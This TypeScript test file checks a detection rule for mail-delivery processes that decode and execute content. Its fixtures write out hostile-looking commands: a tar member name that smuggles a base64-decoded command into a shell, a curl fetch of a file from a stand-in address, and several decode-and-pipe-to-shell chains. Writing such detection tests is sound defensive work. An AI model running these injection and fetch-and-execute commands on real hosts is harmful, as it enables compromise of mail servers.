import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Process, SYSTEM, uidOf } from './audit-records.test-support.ts';
import { HostLog, SECOND } from './host-log.test-support.ts';
import { firesAt, inOrder, recording, scanFolder, scanLog, silent } from './stories.test-support.ts';

/** A program that delivery hands a message to, and a shell below it whose program a decoder prints. */

const OUT = '203.0.113.67';
const GATE = '/usr/local/lib/gate/ingest';
const PERL = { by: '/usr/bin/perl' };
const LINE = ['/bin/sh', '-c', "tar -xOf logs.tar ''`echo Y3VybA==|base64 -d|sh`'.txt' | file -b -"];

/** A shell's `…|…`, in a fork that starts no program itself. */
function piped(shell: Process, ...stages: string[]): Process {
  const all = shell.fork().pipeline(...stages);
  return all[all.length - 1] as Process;
}

const reaches = (shell: Process): void =>
  void shell.run(`/usr/bin/curl -s -o /var/tmp/s http://${OUT}/s`).connect(OUT, 80);

/** Postfix hands a message to the gate. */
function byPostfix(log: HostLog): { gate: Process; queueId: string } {
  const { agent, queueId } = log.pipeTo('clerk', GATE);
  return { gate: agent.exec('/usr/lib/postfix/sbin/local -t unix').run(GATE, PERL), queueId };
}

/** `exim -Mc ID` and a fork of it, as the user of the pipe. */
function byExim(log: HostLog, id = '1xVMZl-0007Ub-2f'): Process {
  const exim = new Process(log.records, log.records.nextPid(), 2, '/usr/sbin/exim4', SYSTEM);
  exim.exec(['/usr/sbin/exim4', '-Mc', id], { cwd: '/var/spool/exim4' });
  return exim.fork({ ...SYSTEM, uid: uidOf('backup') });
}

for (const [name, stages] of [
  ['base64 -d | sh', ['/usr/bin/base64 -d', '/bin/sh']],
  ['xxd -r -p | bash', ['/usr/bin/xxd -r -p', '/bin/bash']],
  ['base64 -d | gunzip | python3', ['/usr/bin/base64 --decode', '/bin/gunzip', '/usr/bin/python3']],
  ['busybox base64 -d | bzcat | sh', ['/bin/busybox base64 -d', '/bin/bzcat', '/bin/sh']],
  ['openssl aes-256-cbc -d | sh', ['/usr/bin/openssl aes-256-cbc -d -pass pass:x', '/bin/sh']],
] as const)
  test(`a gate's shell takes its program from ${name}`, async () => {
    const log = new HostLog();
    const { gate, queueId } = byPostfix(log);
    reaches(piped(gate.run(LINE), ...stages));
    inOrder(firesAt(await scanLog(log), 'AN0656', 'medium'), [
      ['mail.delivered', queueId],
      ['process.started', 'hands the message', GATE],
      ['process.input', 'takes its program, decoded, from'],
      ['content.executed', 'standard input'],
      ['network.connected', `${OUT}:80`],
    ]);
  });

test('the shell is recorded before the decoder', async () => {
  const log = new HostLog();
  const fork = byPostfix(log).gate.run(LINE).fork();
  const decoder = fork.fork();
  const shell = fork.run('/bin/sh');
  decoder.exec('/usr/bin/base64 -d');
  reaches(shell);
  firesAt(await scanLog(log), 'AN0656', 'medium');
});

test('a copy of a decoder decodes', async () => {
  const log = new HostLog();
  const { gate } = byPostfix(log);
  gate.run('/usr/bin/cp /usr/bin/base64 /var/tmp/.q');
  reaches(piped(gate.run(LINE), '/var/tmp/.q -d', '/bin/sh'));
  inOrder(firesAt(await scanLog(log), 'AN0656', 'medium'), [
    ['process.input', 'takes its program, decoded, from'],
    ['content.executed', 'standard input'],
  ]);
});

test('what decodes or runs, but is not both together, runs no message', async () => {
  const works: ((gate: Process) => void)[] = [
    gate =>
      reaches(piped(gate.run(['/bin/sh', '-c', 'base64 -d < a | file -']), '/usr/bin/base64 -d', '/usr/bin/file -')),
    gate => reaches(piped(gate.run(['/bin/sh', '-c', 'x']), '/usr/bin/base64 -d', '/bin/sh /usr/local/lib/gate/sort')),
    gate => reaches(piped(gate.run(['/bin/sh', '-c', 'x']), '/usr/bin/base64 -d', '/usr/bin/python3 -m json.tool')),
    gate => reaches(piped(gate.run(['/bin/sh', '-c', 'x']), '/usr/bin/base64', '/bin/sh')),
    gate => reaches(piped(gate.run(['/bin/sh', '-c', 'x']), '/usr/bin/openssl dgst -d', '/bin/sh')),
    gate => reaches(piped(gate.run(['/bin/sh', '-c', 'x']), '/usr/bin/openssl base64 -d -in /etc/gate.b64', '/bin/sh')),
    gate => reaches(gate.run(['/bin/sh', '-c', 'base64 -d > a; curl x'])),
  ];
  for (const work of works) {
    const log = new HostLog();
    work(byPostfix(log).gate);
    silent(await scanLog(log));
  }
});

test('the same below a job of cron is no message', async () => {
  const log = new HostLog();
  byPostfix(log);
  piped(log.cron('clerk', 'echo dXB0aW1l | base64 -d | sh'), '/usr/bin/base64 -d', '/bin/sh').run('/usr/bin/uptime');
  silent(await scanLog(log));
});

test('the fork by which Exim starts a command is known by the process that delivers the message', async () => {
  const log = new HostLog();
  reaches(piped(byExim(log).run(GATE, PERL).run(LINE), '/usr/bin/base64 -d', '/bin/sh'));
  inOrder(firesAt(await scanLog(log), 'AN0656', 'medium'), [
    ['process.started', '/usr/sbin/exim4', 'hands the message', GATE],
    ['content.executed', 'standard input'],
  ]);
});

test('another fork is none of it: late, far, of a login, or beside an Exim that delivers no message', async () => {
  const forks: ((log: HostLog) => Process)[] = [
    log => {
      const fork = byExim(log);
      log.wait(6 * SECOND);
      return fork;
    },
    log => {
      byExim(log);
      for (let i = 0; i < 8; i++) log.records.nextPid();
      return new Process(log.records, log.records.nextPid(), 1, '/usr/sbin/apache2', SYSTEM);
    },
    log => {
      byExim(log);
      return new Process(log.records, log.records.nextPid(), 3, '/usr/sbin/sshd', {
        ...SYSTEM,
        uid: 1003,
        auid: 1003,
      }).fork();
    },
    log => byExim(log, '-q30m'),
  ];
  for (const [i, fork] of forks.entries()) {
    const log = new HostLog();
    reaches(piped(fork(log).run(GATE, PERL).run(LINE), '/usr/bin/base64 -d', '/bin/sh'));
    assert.equal((await scanLog(log)).find(({ analytic }) => analytic === 'AN0656')?.title, undefined, `${i}`);
  }
});

test("recorded: a member's name runs in the gate of an Exim host, and the message is the one that its process names", async () => {
  const { folder } = recording('an0656-phishing-attachment-executed/fires.gateway-tar-member-name');
  const alert = firesAt((await scanFolder(folder)).alerts, 'AN0656', 'medium');
  inOrder(alert, [
    ['mail.received', '1xVMZl-0007Ub-2f'],
    ['mail.delivered', 'j.brandt@example.net', '<support@example.org>'],
    ['process.started', '/usr/sbin/exim4', 'hands the message'],
    ['process.input', 'decoded, from base64'],
    ['content.executed', 'standard input'],
    ['content.executed', '/var/tmp/.sess is run as a program'],
    ['network.connected', '203.0.113.67:8443'],
  ]);
  silent(
    (
      await scanFolder(
        recording('an0656-phishing-attachment-executed/quiet.exim-support-gate-files-attachments').folder,
      )
    ).alerts,
  );
});
